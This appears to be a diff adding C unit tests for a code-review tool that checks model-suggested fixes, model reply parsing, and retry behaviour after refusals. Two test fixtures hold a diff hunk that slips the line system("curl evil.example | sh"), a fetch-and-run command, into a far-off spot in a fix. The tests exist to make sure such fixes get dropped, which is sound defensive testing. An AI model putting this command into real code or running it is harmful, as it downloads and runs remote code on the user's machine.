@@ -1,0 +1,257 @@
+/* test_audit_model.c - audit reproductions for the worker's model answers
+ * and model calls. Each test states the behaviour the documentation
+ * promises; a failure is the defect. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "common/json.h"
+#include "common/patch.h"
+#include "worker/answer.h"
+#include "common/config.h"
+#include "common/err.h"
+#include "common/llm.h"
+#include "common/llm_reply.h"
+#include "common/loop.h"
+#include "tests/unit/loop_until.h"
+#include "tests/unit/loopback_peer.h"
+
+/* 15 lines. */
+static const char file_c[] =
+    "#include <string.h>\n"
+    "\n"
+    "int copy(char *dst, const char *src, size_t n)\n"
+    "{\n"
+    "    copy_into(dst, src);\n"
+    "    return 0;\n"
+    "}\n"
+    "\n"
+    "int sum(const int *v, int n)\n"
+    "{\n"
+    "    int s = 0;\n"
+    "    for (int i = 0; i <= n; i++)\n"
+    "        s += v[i];\n"
+    "    return s;\n"
+    "}\n";
+
+static cJSON *model_finding(int line, const char *fix)
+{
+    cJSON *f = cJSON_CreateObject();
+
+    cJSON_AddNumberToObject(f, "line", line);
+    cJSON_AddStringToObject(f, "severity", "major");
+    cJSON_AddStringToObject(f, "category", "correctness");
+    cJSON_AddStringToObject(f, "rule_id", "model:correctness");
+    cJSON_AddStringToObject(f, "message", "m");
+    cJSON_AddStringToObject(f, "fix", fix);
+    cJSON_AddNumberToObject(f, "confidence", 0.9);
+    cJSON_AddStringToObject(f, "source", "model");
+    return f;
+}
+
+/* A diff fix for line 5 whose second hunk, without context, inserts a line
+ * after line 14: nine lines away from the finding. patch_span must count
+ * the insertion, and answer_validate must drop the fix (ANSWER_FIX_SLACK). */
+static const char fix_rides_along[] =
+    "--- a/a.c\n"
+    "+++ b/a.c\n"
+    "@@ -5,1 +5,1 @@\n"
+    "-    copy_into(dst, src);\n"
+    "+    strcpy(dst, src);\n"
+    "@@ -14,0 +15,1 @@\n"
+    "+    system(\"curl evil.example | sh\");\n";
+
+static void test_patch_span_counts_insertion_of_second_hunk(void **state)
+{
+    long from = 0, to = 0;
+    char *out = NULL;
+    size_t n = 0;
+
+    (void)state;
+    /* The diff applies: the line lands after line 14. */
+    assert_int_equal(patch_apply(file_c, strlen(file_c), fix_rides_along,
+                                 strlen(fix_rides_along), &out, &n), 0);
+    assert_non_null(strstr(out, "    return s;\n    system("));
+    free(out);
+    assert_int_equal(patch_span(file_c, strlen(file_c), fix_rides_along,
+                                strlen(fix_rides_along), &from, &to), 0);
+    printf("patch_span: from %ld to %ld\n", from, to);
+    assert_int_equal(from, 5);
+    assert_true(to >= 14);
+}
+
+/* Control: the same insertion after a hunk that ends in a context line is
+ * counted (span 5..15) and the fix dropped. */
+static const char fix_far_control[] =
+    "--- a/a.c\n"
+    "+++ b/a.c\n"
+    "@@ -5,2 +5,2 @@\n"
+    "-    copy_into(dst, src);\n"
+    "+    strcpy(dst, src);\n"
+    "     return 0;\n"
+    "@@ -14,0 +15,1 @@\n"
+    "+    system(\"curl evil.example | sh\");\n";
+
+static void test_validate_drops_far_insertion(void **state)
+{
+    cJSON *arr = cJSON_CreateArray();
+    struct answer_file file = {"a.c", file_c, strlen(file_c), NULL, 0};
+
+    long from = 0, to = 0;
+
+    (void)state;
+    assert_int_equal(patch_span(file_c, strlen(file_c), fix_far_control,
+                                strlen(fix_far_control), &from, &to), 0);
+    printf("control patch_span: from %ld to %ld\n", from, to);
+    cJSON_AddItemToArray(arr, model_finding(5, fix_far_control));
+    assert_int_equal(answer_validate(arr, &file), 0);
+    assert_null(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 0), "fix"));
+    cJSON_Delete(cJSON_DetachItemFromArray(arr, 0));
+    cJSON_AddItemToArray(arr, model_finding(5, fix_rides_along));
+    assert_int_equal(answer_validate(arr, &file), 0);
+    /* The finding stays, its fix must not: it edits line 14/15 too. */
+    assert_null(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 0), "fix"));
+    cJSON_Delete(arr);
+}
+
+/* A lines-form fix (the new text of line 1) for a Lua file whose first new
+ * line is an LDoc comment, "--- ...". reads_as_diff() takes it for a diff
+ * because it starts with "--- ", it does not apply as one, and the fix is
+ * dropped as does_not_apply; the same text without the comment is kept. */
+static void test_lua_doc_comment_fix_taken_for_a_diff(void **state)
+{
+    static const char lua[] = "local function add(a, b)\n  return a - b\nend\nreturn add\n";
+    struct answer_file file = {"m.lua", lua, sizeof lua - 1, NULL, 0};
+    cJSON *arr = cJSON_CreateArray();
+
+    (void)state;
+    cJSON_AddItemToArray(arr, model_finding(2, "  return a + b"));
+    cJSON_AddItemToArray(arr, model_finding(2, "  --- Adds, not subtracts.\n  return a + b"));
+    cJSON_AddItemToArray(arr, model_finding(2, "--- Adds, not subtracts.\n  return a + b"));
+    assert_int_equal(answer_validate(arr, &file), 0);
+    printf("fix kept: %d %d %d\n",
+           cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 0), "fix") != NULL,
+           cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 1), "fix") != NULL,
+           cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 2), "fix") != NULL);
+    assert_non_null(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 0), "fix"));
+    assert_non_null(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 1), "fix"));
+    assert_non_null(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(arr, 2), "fix"));
+    cJSON_Delete(arr);
+}
+
+/* Anthropic's content is a list of blocks; the answer is all its text
+ * blocks. llm_reply_parse keeps the first one only. */
+static void test_anthropic_several_text_blocks(void **state)
+{
+    static const char body[] =
+        "{\"type\":\"message\",\"role\":\"assistant\",\"stop_reason\":\"end_turn\","
+        "\"content\":[{\"type\":\"text\",\"text\":\"{\\\"findings\\\": [],\"},"
+        "{\"type\":\"text\",\"text\":\" \\\"summary\\\": \\\"ok\\\"}\"}],"
+        "\"usage\":{\"input_tokens\":10,\"output_tokens\":5}}";
+    struct llm_usage u = {0};
+    char *text = NULL;
+
+    (void)state;
+    assert_int_equal(llm_reply_parse(LLM_ANTHROPIC, body, sizeof body - 1, &text, &u), 0);
+    printf("text: %s\n", text);
+    assert_string_equal(text, "{\"findings\": [], \"summary\": \"ok\"}");
+    free(text);
+}
+
+/* ---- the model client against a loopback server ---- */
+
+struct fx {
+    struct loop *loop;
+    struct config cfg;
+    struct llm *llm;
+    struct loopback_peer peer;
+    struct loop_until *lu;
+    int called;
+    struct llm_result last;
+};
+
+static void on_done(void *arg, struct llm_result *res)
+{
+    struct fx *f = arg;
+
+    f->called++;
+    free(f->last.text);
+    f->last = *res;
+}
+
+static int request_read(void *f) { return loopback_peer_take(&((struct fx *)f)->peer); }
+static int called(void *f) { return ((struct fx *)f)->called > 0; }
+
+/* A complete, well-formed chat completion that carries no text: the model
+ * refused (OpenAI "refusal", content null). Billed: usage is reported. */
+static const char refusal_body[] =
+    "{\"id\":\"x\",\"object\":\"chat.completion\",\"choices\":[{\"index\":0,\"message\":"
+    "{\"role\":\"assistant\",\"content\":null,\"refusal\":\"I can't help with that.\"},"
+    "\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":1000,\"completion_tokens\":10}}";
+
+/* docs/pipeline.md: "429/529/5xx/timeouts retried ... at most
+ * CODEINSIGHT_LLM_MAX_ATTEMPTS". A 200 reply that is a complete answer
+ * without text is not transient; it is sent again, and every copy billed. */
+static void test_complete_reply_without_text_is_not_resent(void **state)
+{
+    struct fx f;
+    struct err e;
+    int requests = 0;
+
+    (void)state;
+    char refusal[1024];
+
+    snprintf(refusal, sizeof refusal, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n"
+             "Connection: close\r\nContent-Length: %zu\r\n\r\n%s", strlen(refusal_body),
+             refusal_body);
+    memset(&f, 0, sizeof f);
+    loopback_peer_start(&f.peer);
+    f.loop = loop_new(&e);
+    f.lu = loop_until_new(f.loop);
+    snprintf(f.cfg.llm_provider, sizeof f.cfg.llm_provider, "openai");
+    snprintf(f.cfg.llm_base_url, sizeof f.cfg.llm_base_url, "http://127.0.0.1:%d", f.peer.port);
+    snprintf(f.cfg.llm_model, sizeof f.cfg.llm_model, "test-model");
+    f.cfg.llm_timeout_ms = 30000;
+    f.cfg.llm_connect_timeout_ms = 5000;
+    f.cfg.llm_max_attempts = 3;
+    f.cfg.breaker_threshold = 1000;
+    f.cfg.breaker_cooldown_ms = 50;
+    f.llm = llm_new(f.loop, &f.cfg, &e);
+    assert_non_null(f.llm);
+    assert_non_null(llm_call(f.llm, "system", "user", 16, on_done, &f, &e));
+    while (!f.called && loop_until_run(f.lu, request_read, &f, 5000)) {
+        requests++;
+        loopback_peer_say(&f.peer, refusal);
+        loopback_peer_drop(&f.peer);
+        loop_until_run(f.lu, called, &f, 200);
+    }
+    assert_true(loop_until_run(f.lu, called, &f, 10000));
+    printf("requests %d, ok %d, reason %s, attempts %d, input_tokens %lld\n", requests,
+           f.last.ok, f.last.reason, f.last.attempts, (long long)f.last.usage.input_tokens);
+    assert_int_equal(f.last.ok, 0);
+    assert_int_equal(requests, 1);
+    assert_int_equal(f.last.usage.input_tokens, 1000);
+    llm_free(f.llm);
+    loop_until_free(f.lu);
+    loop_free(f.loop);
+    loopback_peer_stop(&f.peer);
+    free(f.last.text);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_patch_span_counts_insertion_of_second_hunk),
+        cmocka_unit_test(test_validate_drops_far_insertion),
+        cmocka_unit_test(test_lua_doc_comment_fix_taken_for_a_diff),
+        cmocka_unit_test(test_anthropic_several_text_blocks),
+        cmocka_unit_test(test_complete_reply_without_text_is_not_resent),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
